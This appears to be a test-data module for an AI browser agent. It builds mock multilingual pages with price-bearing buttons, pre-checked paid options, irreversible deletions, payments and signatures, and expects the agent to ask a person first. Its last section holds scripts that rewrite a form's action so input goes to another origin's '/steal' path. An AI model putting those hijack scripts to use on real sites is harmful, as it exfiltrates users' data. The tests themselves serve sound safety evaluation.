// @ts-nocheck: the rows are plain data and pages; the types of what is run are in kit.mjs
import { askRow, button, controls, f, form, html, JQ, json, RX, see, site, take, text } from '../kit.mjs'

/*
 * Rows with something to lose. Without a person nothing may be sent. The server would take each of them, and would show
 * a page of thanks: only the question keeps it back. `sendsWithPerson` is what a run causes that a person has allowed.
 */

export const rows = []
const add = (spec) => rows.push(askRow({ asks: true, ...spec }))

const NAMES = {
  en: 'Sam Carter',
  de: 'Jana Vogt',
  fr: 'Luc Morel',
  es: 'Rosa Gil',
  it: 'Marco Neri',
  nl: 'Bram Smit',
  pt: 'Joana Reis',
  pl: 'Adam Nowak',
  tr: 'Selin Ak',
  ko: '정다은',
  sv: 'Nils Holm',
  cs: 'Eva Horká',
  hi: 'राजेश',
  ja: '中村 光',
  zh: '孙丽',
  ar: 'ليلى',
  fi: 'Matti Ilo',
  el: 'Γιώργος',
  vi: 'Ngô Lan',
  hu: 'Kiss Anna',
}
const thanks = (lang, name) => site(lang, 'bs', name)('<h1>✓</h1><p>OK</p>')

// ------------------------------------------------ a price in the button

const PRICE_IN_BUTTON = [
  // language, theme, site, product, field label, button (with the price), way
  ['en', 'shop', 'Tilley Tickets', 'Harbour cruise, Saturday 3 pm', 'Passenger name', 'Book for £38.00', 'post'],
  ['de', 'bs', 'Waldbühne', 'Sommernachtskonzert, Reihe 7', 'Name', 'Karte sichern – 27,50 €', 'fetch'],
  ['fr', 'app', 'Vélo Libre', 'Forfait journée', 'Nom', 'Continuer (9,90 €)', 'xhr'],
  ['pl', 'tw', 'Kino Muza', 'Seans 20:15', 'Imię i nazwisko', 'Dalej · 34 zł', 'post'],
  ['ja', 'shop', '木の器 杉本', '汁椀（大）', 'お名前', '¥3,980 で手続きを進める', 'fetch'],
  ['ko', 'app', '달콤상점', '수제 카스텔라', '받는 분', '12,900원 계속하기', 'post'],
  ['hi', 'bs', 'मेला टिकट', 'विज्ञान मेला, रविवार', 'नाम', '₹250 में आगे बढ़ें', 'xhr'],
  ['cs', 'wf', 'Lanové centrum', 'Vstup dospělý', 'Jméno', 'Pokračovat za 290 Kč', 'fetch'],
]
for (const [lang, theme, name, product, label, submit, way] of PRICE_IN_BUTTON) {
  const p = site(lang, theme, name)
  const fields = [f('name', 'text', label, NAMES[lang], { id: 'guest', name: 'guest' })]
  const script = {
    post: '',
    fetch: `document.getElementById('book').addEventListener('submit', async (e) => { e.preventDefault(); const r = await fetch('/book', { method: 'POST', body: new FormData(e.target) }); if (r.ok) e.target.innerHTML = '✓' })`,
    xhr: `${JQ}$('#book').on('submit',function(){$.post('/book',$('#book').serialize(),function(){$('#book').html('✓')});return false})`,
  }[way]
  add({
    id: `asking-price-button-${lang}`,
    family: 'asking-price',
    language: lang,
    title: `A price in the button (${way})`,
    fields,
    tool: form('continueBooking', product, '#book'),
    pages: {
      '/': () =>
        p(
          `<h1>${product}</h1><form id="book" action="/book" method="post">${controls(fields, theme === 'tw' ? 'tw' : 'bs')}<button type="submit" class="btn btn-primary">${submit}</button></form>`,
          { script },
        ),
      '/book': take(() => (way === 'post' ? see('/ok') : json({ ok: true }))),
      '/ok': () => thanks(lang, name),
    },
    why: 'A price stands in the button.',
  })
}

// ------------------------------------------------ a price beside the button, in a total, at a checked box

const BESIDE = [
  {
    lang: 'es',
    theme: 'shop',
    name: 'Aceites Olivar',
    way: 'beside',
    title: 'A price in a span right before the button',
    field: 'Tu nombre',
    submit: 'Siguiente',
    extra: '<span class="precio">18,40&nbsp;€</span>',
    body: (c, x) =>
      `<h1>Aceite nuevo, 1 l</h1><form id="f" method="post" action="/go">${c}<div class="buybox__row">${x.extra}<button>${x.submit}</button></div></form>`,
  },
  {
    lang: 'it',
    theme: 'old',
    name: 'Terme di Valbassa',
    way: 'beside',
    title: 'A price in the next table cell',
    field: 'Nome',
    submit: 'Avanti',
    body: (c, x) =>
      `<h2>Ingresso giornaliero</h2><form id="f" method="post" action="/go">${c}<table><tr><td><input type="submit" value="${x.submit}"></td><td><b>EUR 42,00</b></td></tr></table></form>`,
  },
  {
    lang: 'nl',
    theme: 'bs',
    name: 'Fietsverhuur Texel',
    way: 'total',
    title: 'A total in the foot of the form’s table',
    field: 'Naam',
    submit: 'Verder',
    body: (c, x) =>
      `<h1>Uw keuze</h1><form id="f" method="post" action="/go"><table class="table"><tbody><tr><td>Elektrische fiets, 2 dagen</td><td>€ 56,00</td></tr></tbody><tfoot><tr><th>Totaal</th><th>€ 56,00</th></tr></tfoot></table>${c}<button class="btn btn-primary">${x.submit}</button></form>`,
  },
  {
    lang: 'pt',
    theme: 'tw',
    name: 'Passeios do Douro',
    way: 'total',
    title: 'A total in a description list of the form',
    field: 'Nome',
    submit: 'Continuar',
    body: (c, x) =>
      `<h1>Resumo</h1><form id="f" method="post" action="/go">${c}<dl class="summary"><dt>2 adultos</dt><dd>R$ 180,00</dd><dt>Total</dt><dd>R$ 180,00</dd></dl><button>${x.submit}</button></form>`,
  },
  {
    lang: 'tr',
    theme: 'app',
    name: 'Yayla Evleri',
    way: 'total',
    title: 'A total with the lira sign in an output element',
    field: 'Ad Soyad',
    submit: 'Devam',
    body: (c, x) =>
      `<h1>Özet</h1><form id="f" method="post" action="/go">${c}<p>Toplam <output name="toplam">4.600 ₺</output></p><button type="submit">${x.submit}</button></form>`,
  },
  {
    lang: 'sv',
    theme: 'bs',
    name: 'Naturkartan',
    way: 'checked',
    title: 'A box that is checked from the start adds a yearly fee',
    field: 'Namn',
    submit: 'Skicka',
    body: (c, x) =>
      `<h1>Hämta kartan</h1><form id="f" method="post" action="/go">${c}<div class="form-check"><input type="checkbox" id="plus" name="plus" checked> <label for="plus">Ja, jag vill ha Plus för 349 kr per år</label></div><button class="btn btn-success">${x.submit}</button></form>`,
  },
  {
    lang: 'fi',
    theme: 'wf',
    name: 'Saariston Postimerkit',
    way: 'checked',
    title: 'A checked box with a price right above the button',
    field: 'Nimi',
    submit: 'Lähetä',
    body: (c, x) =>
      `<h1>Tilaa esite</h1><form id="f" method="post" action="/go">${c}<label class="w-checkbox"><input type="checkbox" name="kansio" checked><span class="w-form-label">Lisää keräilykansio 24,90 €</span></label><input type="submit" class="w-button" value="${x.submit}"></form>`,
  },
  {
    lang: 'de',
    theme: 'tw',
    name: 'Ahnenforschung Nord',
    way: 'checked',
    title: 'A checked radio card with a price',
    field: 'Name',
    submit: 'Weiter',
    body: (c, x) =>
      `<h1>Zugang wählen</h1><form id="f" method="post" action="/go">${c}<fieldset><legend>Tarif</legend><label class="card"><input type="radio" name="tarif" value="m"> 1 Monat, 19,95 €</label><label class="card"><input type="radio" name="tarif" value="j" checked> 12 Monate, 119,40 €</label></fieldset><button class="rounded">${x.submit}</button></form>`,
  },
  {
    lang: 'zh',
    theme: 'shop',
    name: '山野茶铺',
    way: 'beside',
    title: 'The sum stands in a sticky bar with the button',
    field: '收货人',
    submit: '下一步',
    body: (c, x) =>
      `<h1>明前龙井</h1><form id="f" method="post" action="/go">${c}<div class="sticky-bar"><em>合计 ¥268.00</em> <button class="button">${x.submit}</button></div></form>`,
  },
  {
    lang: 'ar',
    theme: 'shop',
    name: 'عطور الشرق',
    way: 'beside',
    title: 'A price with the name of the currency beside the button',
    field: 'الاسم',
    submit: 'متابعة',
    body: (c, x) =>
      `<h1>دهن العود</h1><form id="f" method="post" action="/go">${c}<p><strong>٣٥٠ ر.س</strong> <button class="button">${x.submit}</button></p></form>`,
  },
  {
    lang: 'vi',
    theme: 'bs',
    name: 'Vé Xe Miền Tây',
    way: 'total',
    title: 'A total in đồng in the form',
    field: 'Họ tên',
    submit: 'Tiếp tục',
    body: (c, x) =>
      `<h1>Chuyến 22:00</h1><form id="f" method="post" action="/go">${c}<div class="tong">Tổng cộng: <b>340.000₫</b></div><button class="btn btn-primary">${x.submit}</button></form>`,
  },
  {
    lang: 'hu',
    theme: 'wp',
    name: 'Libegő',
    way: 'total',
    title: 'A total in forint in a paragraph of the form',
    field: 'Név',
    submit: 'Tovább',
    body: (c, x) =>
      `<h1>Jegyek</h1><form id="f" method="post" action="/go">${c}<p class="osszesen">Összesen: 5 600 Ft</p><p><input type="submit" value="${x.submit}"></p></form>`,
  },
  {
    lang: 'el',
    theme: 'gov',
    name: 'Ακτοπλοϊκά',
    way: 'total',
    title: 'A total in euro in a summary list of the form',
    field: 'Ονοματεπώνυμο',
    submit: 'Συνέχεια',
    body: (c, x) =>
      `<h1>Το ταξίδι σας</h1><form id="f" method="post" action="/go"><dl class="govuk-summary-list"><dt>Σύνολο</dt><dd>96,00 €</dd></dl>${c}<button class="govuk-button">${x.submit}</button></form>`,
  },
]
for (const x of BESIDE) {
  const p = site(x.lang, x.theme, x.name)
  const fields = [f('name', 'text', x.field, NAMES[x.lang], { id: 'n1', name: 'n1' })]
  add({
    id: `asking-price-${x.way}-${x.lang}`,
    family: 'asking-price',
    language: x.lang,
    title: x.title,
    fields,
    tool: form('continueForm', x.name, '#f'),
    pages: {
      '/': () => p(x.body(controls(fields, x.theme === 'old' ? 'table' : 'bs'), x)),
      '/go': take(() => see('/ok')),
      '/ok': () => thanks(x.lang, x.name),
    },
    why: {
      beside: 'A price stands beside the button.',
      total: 'A price is the total of the button’s form.',
      checked: 'A price stands at a checked box near the button.',
    }[x.way],
  })
}

// ------------------------------------------------ the price comes with the filling

{
  const p = site('en', 'tw', 'Kite School Tarifa')
  const fields = [
    f('name', 'text', 'Name', 'Sam Carter', { id: 'k-name' }),
    f('days', 'number', 'Days', 3, { id: 'k-days' }),
  ]
  add({
    id: 'asking-price-live-en',
    family: 'asking-price',
    language: 'en',
    title: 'The button says "Continue" until a number of days is entered; then it shows a sum',
    fields,
    tool: form('planCourse', 'Plan a kite course', '#kite'),
    pages: {
      '/': () =>
        p(
          `<h1>Plan your course</h1><form id="kite" method="post" action="/kite">${controls(fields, 'tw')}<button id="kb">Continue</button></form>`,
          {
            script: `document.getElementById('k-days').addEventListener('input', (e) => { document.getElementById('kb').textContent = 'Continue · $' + e.target.value * 90 })`,
          },
        ),
      '/kite': take(() => see('/ok')),
      '/ok': () => thanks('en', 'Kite School'),
    },
    why: 'Judged again on the live page right before the click: by then a price stands in the button.',
  })
}
{
  const p = site('fr', 'app', 'Livraisons Express')
  const fields = [
    f('ville', 'text', 'Ville', 'Dijon', { id: 'le-ville' }),
    f('poids', 'number', 'Poids (kg)', 4, { id: 'le-poids' }),
  ]
  add({
    id: 'asking-price-live-total-fr',
    family: 'asking-price',
    language: 'fr',
    title: 'A view library draws a total into the form when the weight is entered',
    fields,
    tool: form('sendParcel', 'Préparer un colis', '#colis'),
    pages: {
      '/': () =>
        p('<h1>Votre colis</h1><div id="m"></div>', {
          script: `${RX}const m = mount('#m', {}, () => '<form id="colis" data-on-submit="go"><label for="le-ville">Ville</label><input id="le-ville" name="ville"><label for="le-poids">Poids (kg)</label><input id="le-poids" name="poids" type="number"><p id="le-total"></p><button type="submit">Valider</button></form>', {
  go() { fetch('/colis', { method: 'POST', body: JSON.stringify(this.state.v), headers: { 'content-type': 'application/json' } }) }
})
document.querySelector('#m').addEventListener('input', (e) => { if (e.target.name === 'poids') document.getElementById('le-total').textContent = 'Total : ' + (e.target.value * 3.2).toFixed(2).replace('.', ',') + ' €' })`,
        }),
      '/colis': take(() => json({ ok: true })),
    },
    why: 'A total appears in the form while it is filled; the live page is judged right before the click.',
  })
}

// ------------------------------------------------ words in the button, no price anywhere

const WORDS = [
  // language, theme, what, label of the one field (or none), button, kind of deed
  ['en', 'app', 'Account', null, 'Delete my account', 'deleting'],
  ['en', 'bs', 'Lease agreement', 'Full name', 'Sign agreement', 'signing'],
  ['en', 'tw', 'Lot 41, mantel clock', 'Your maximum', 'Place bid', 'bidding'],
  ['en', 'gov', 'Pension pot', 'Account reference', 'Withdraw funds', 'withdrawing'],
  ['de', 'shop', 'Warenkorb', 'Name', 'Zahlungspflichtig bestellen', 'ordering at a cost'],
  ['de', 'bs', 'Girokonto', 'Verwendungszweck', 'Jetzt überweisen', 'transferring'],
  ['de', 'app', 'Geräteverwaltung', null, 'Alle Daten endgültig löschen', 'wiping'],
  ['fr', 'shop', 'Votre panier', 'Nom', 'Commande avec obligation de paiement', 'ordering at a cost'],
  ['fr', 'app', 'Contrat de location', 'Nom complet', 'Signer le contrat', 'signing'],
  ['es', 'bs', 'Cuenta común', 'Concepto', 'Transferir', 'transferring'],
  ['es', 'app', 'Perfil', null, 'Eliminar mi cuenta', 'deleting'],
  ['it', 'wp', 'Asta di beneficenza, lotto 9', 'La tua offerta', "Fai un'offerta all'asta", 'bidding'],
  ['it', 'app', 'Abbonamento', 'Nome', 'Abbonati a pagamento', 'subscribing for money'],
  ['nl', 'shop', 'Winkelmand', 'Naam', 'Bestellen met betaalplicht', 'ordering at a cost'],
  ['nl', 'app', 'Huurcontract', 'Volledige naam', 'Contract ondertekenen', 'signing'],
  ['pt', 'app', 'Carteira', 'Referência', 'Levantar dinheiro', 'withdrawing'],
  ['pt', 'bs', 'Área de cliente', null, 'Apagar a conta definitivamente', 'deleting'],
  ['pl', 'shop', 'Koszyk', 'Imię i nazwisko', 'Zamawiam z obowiązkiem zapłaty', 'ordering at a cost'],
  ['pl', 'app', 'Ustawienia', null, 'Usuń konto na zawsze', 'deleting'],
  ['tr', 'app', 'Hesap', null, 'Hesabımı kalıcı olarak sil', 'deleting'],
  ['tr', 'bs', 'Cüzdan', 'Açıklama', 'Parayı gönder', 'transferring'],
  ['ko', 'shop', '장바구니', '받는 분', '결제하기', 'paying'],
  ['ko', 'app', '내 정보', null, '계정 영구 삭제', 'deleting'],
  ['sv', 'bs', 'Auktion, nummer 12', 'Ditt högsta bud', 'Lägg bud', 'bidding'],
  ['sv', 'app', 'Konto', null, 'Radera kontot', 'deleting'],
  ['cs', 'shop', 'Košík', 'Jméno', 'Objednat s povinností platby', 'ordering at a cost'],
  ['cs', 'app', 'Nastavení', null, 'Smazat účet', 'deleting'],
  ['hi', 'app', 'खाता', null, 'मेरा खाता हमेशा के लिए हटाएँ', 'deleting'],
  ['ja', 'shop', 'ご注文内容', 'お名前', '注文を確定する', 'ordering at a cost'],
  ['ja', 'app', 'アカウント', null, 'アカウントを完全に削除', 'deleting'],
  ['zh', 'shop', '购物车', '收货人', '立即支付', 'paying'],
  ['zh', 'app', '账户设置', null, '永久注销并删除账号', 'deleting'],
  ['ar', 'shop', 'سلة المشتريات', 'الاسم', 'ادفع الآن', 'paying'],
  ['ar', 'app', 'الحساب', null, 'حذف الحساب نهائيًا', 'deleting'],
  ['fi', 'app', 'Tili', null, 'Poista tili pysyvästi', 'deleting'],
  ['el', 'shop', 'Καλάθι', 'Ονοματεπώνυμο', 'Πληρωμή', 'paying'],
  ['vi', 'shop', 'Giỏ hàng', 'Họ tên', 'Thanh toán ngay', 'paying'],
  ['hu', 'shop', 'Kosár', 'Név', 'Fizetési kötelezettséggel megrendelem', 'ordering at a cost'],
]
const deed = (kind) => kind.split(' ')[0]
WORDS.forEach(([lang, theme, heading, label, submit, kind], index) => {
  const p = site(lang, theme, heading)
  const fields = label
    ? [
        kind === 'bidding'
          ? f('amount', 'number', label, 120, { id: 'w-1', name: 'w1' })
          : f('name', 'text', label, NAMES[lang], { id: 'w-1', name: 'w1' }),
      ]
    : []
  const ways = [
    // a button element with an inner span and an icon
    (b) =>
      `<button type="submit" id="deed" class="btn btn-danger"><svg width="16" height="16" aria-hidden="true"><circle r="6" cx="8" cy="8"/></svg> <span>${b}</span></button>`,
    // an input
    (b) => `<input type="submit" id="deed" value="${b}">`,
    // an icon with a name only for machines
    (b) =>
      `<button id="deed" class="icon-btn" aria-label="${b}"><svg width="16" height="16" aria-hidden="true"><rect width="12" height="12"/></svg></button>`,
    // plain
    (b) => `<button id="deed" type="submit">${b}</button>`,
  ]
  const markup = ways[index % 4](submit)
  const script =
    index % 3 === 0
      ? `document.getElementById('risk').addEventListener('submit', (e) => { e.preventDefault(); fetch('/risk', { method: 'POST', body: new FormData(e.target) }).then(() => { e.target.textContent = '✓' }) })`
      : ''
  add({
    id: `asking-words-${deed(kind)}-${lang}-${index}`,
    family: 'asking-words',
    language: lang,
    title: `Words of ${kind} on the button${index % 4 === 2 ? ' (only its accessible name)' : ''}`,
    fields,
    tool: label ? form('completeForm', heading, '#risk') : button('pressButton', heading, '#deed'),
    pages: {
      '/': () =>
        p(`<h1>${heading}</h1><form id="risk" method="post" action="/risk">${controls(fields, 'wp')}${markup}</form>`, {
          script,
        }),
      '/risk': take(() => see('/ok')),
      '/ok': () => thanks(lang, heading),
    },
    why: `Words of ${kind} on the button, in a language of the set.`,
  })
})

// ------------------------------------------------ the words stand in the trigger

const TRIGGERS = [
  ['en', 'app', 'Project Bluebird', 'Delete project', 'Why are you leaving it?', 'Continue', 'opens'],
  ['de', 'bs', 'Album „Island“', 'Album löschen', 'Grund', 'Weiter', 'opens'],
  ['fr', 'app', 'Espace « Chantier »', 'Supprimer l’espace', 'Motif', 'Continuer', 'deletes'],
  ['es', 'tw', 'Copia de seguridad', 'Borrar todos los datos', 'Motivo', 'Seguir', 'deletes'],
  ['pl', 'bs', 'Galeria', 'Usuń wszystkie zdjęcia', 'Powód', 'Dalej', 'deletes'],
  ['tr', 'app', 'Kanal', 'Kanalı sil', 'Neden', 'Devam', 'opens'],
  ['ja', 'app', 'プロジェクト', 'すべて削除', '理由', '次へ', 'deletes'],
  ['sv', 'shop', 'Prenumeration', 'Betala 99 kr/mån', 'Namn', 'Nästa', 'opens'],
]
for (const [lang, theme, heading, trigger, label, submit, way] of TRIGGERS) {
  const p = site(lang, theme, heading)
  const fields = [f('reason', 'text', label, 'Test 1', { id: 'reason' })]
  add({
    id: `asking-trigger-${way}-${lang}`,
    family: 'asking-trigger',
    language: lang,
    title:
      way === 'deletes'
        ? 'The trigger itself deletes, and then opens a dialog that asks for a reason'
        : 'The words stand on the trigger, the dialog’s own button is harmless',
    fields,
    tool: form('giveReason', heading, '#why', { triggerSelector: '#open-why' }),
    pages: {
      '/': () =>
        p(
          `<h1>${heading}</h1><button type="button" id="open-why" class="btn btn-outline-danger">${trigger}</button><dialog id="dw"><form id="why">${controls(fields, 'mui')}<button type="submit">${submit}</button></form></dialog>`,
          {
            script: `document.getElementById('open-why').onclick = () => { ${way === 'deletes' ? "fetch('/item', { method: 'DELETE' });" : ''} document.getElementById('dw').showModal() }
document.getElementById('why').addEventListener('submit', (e) => { e.preventDefault(); fetch('/why', { method: 'POST', body: new FormData(e.target) }).then(() => document.getElementById('dw').close()) })`,
          },
        ),
      '/item': take(() => text('', 204)),
      '/why': way === 'deletes' ? () => json({ ok: true }) : take(() => json({ ok: true })),
    },
    why: 'The trigger is judged as the button is, before it is clicked.',
  })
}

// ------------------------------------------------ the address of the form is changed by a script

const ACTIONS = [
  [
    'en',
    'input',
    'The action is changed to another origin when the first field gets its value',
    `q.addEventListener('input', () => { q.form.action = OTHER + '/steal' })`,
  ],
  [
    'de',
    'submit',
    'A submit handler changes the action right before the browser sends',
    `q.form.addEventListener('submit', function () { this.action = OTHER + '/steal' })`,
  ],
  [
    'fr',
    'capture',
    'A listener on the document in the capture phase changes the action at the submit',
    `document.addEventListener('submit', (e) => { e.target.setAttribute('action', OTHER + '/steal') }, true)`,
  ],
  [
    'es',
    'formaction',
    'A script gives the button a formaction of another origin while a field has the focus',
    `q.addEventListener('focus', () => { document.getElementById('go').setAttribute('formaction', OTHER + '/steal') })`,
  ],
  [
    'it',
    'change',
    'A change handler swaps the form’s action for another origin',
    `q.addEventListener('change', () => { q.form.setAttribute('action', OTHER + '/steal') })`,
  ],
  [
    'nl',
    'click',
    'A click handler of the button sets its formAction',
    `document.getElementById('go').addEventListener('click', function () { this.formAction = OTHER + '/steal' })`,
  ],
  [
    'pl',
    'button',
    'A click handler puts another button with a formaction in front and presses it',
    `document.getElementById('go').addEventListener('click', function (e) { e.preventDefault(); const b = document.createElement('button'); b.formAction = OTHER + '/steal'; b.hidden = true; this.form.append(b); this.form.requestSubmit(b) })`,
  ],
  [
    'ko',
    'formdata',
    'The action is changed in a microtask of the submit event',
    `q.form.addEventListener('submit', (e) => { Promise.resolve().then(() => {}); e.currentTarget.action = OTHER + '/steal' })`,
  ],
  [
    'cs',
    'base',
    'A base element that a script adds while filling sends the relative action elsewhere',
    `q.addEventListener('input', () => { if (!document.querySelector('base')) { const b = document.createElement('base'); b.href = OTHER + '/'; document.head.append(b) } })`,
    'steal',
  ],
]
const QUESTIONS = {
  en: 'Your question',
  de: 'Ihre Frage',
  fr: 'Votre question',
  es: 'Tu pregunta',
  it: 'La tua domanda',
  nl: 'Uw vraag',
  pl: 'Twoje pytanie',
  ko: '질문',
  cs: 'Váš dotaz',
}
const SENDS = {
  en: 'Send',
  de: 'Senden',
  fr: 'Envoyer',
  es: 'Enviar',
  it: 'Invia',
  nl: 'Versturen',
  pl: 'Wyślij',
  ko: '보내기',
  cs: 'Odeslat',
}
for (const [lang, way, title, script, action = '/ask'] of ACTIONS) {
  const p = site(lang, 'tw', 'Info')
  const fields = [f('q', 'textarea', QUESTIONS[lang], 'Test, 1 2 3', { id: 'q', name: 'q', purpose: 'message' })]
  add({
    id: `asking-action-${way}-${lang}`,
    family: 'asking-action',
    language: lang,
    title,
    fields,
    tool: form('askQuestion', QUESTIONS[lang], '#ask-form'),
    pages: {
      '/': (_, state) =>
        p(
          `<h1>FAQ</h1><form id="ask-form" method="post" action="${action}">${controls(fields, 'tw')}<button id="go" type="submit">${SENDS[lang]}</button></form>`,
          { script: `const OTHER = '${state.otherOrigin}'; const q = document.getElementById('q'); ${script}` },
        ),
      '/ask': take(() => see('/ok')),
      '/steal': take(() => see('/ok')),
      '/ok': () => thanks(lang, 'Info'),
    },
    otherPages: { '/steal': take(() => html('<p>OK</p>')) },
    status: ['needs_person', 'failed', 'rejected'],
    why: 'An `action` or `formaction` that a script changes while filling or in a submit handler is asked about or refused.',
  })
}
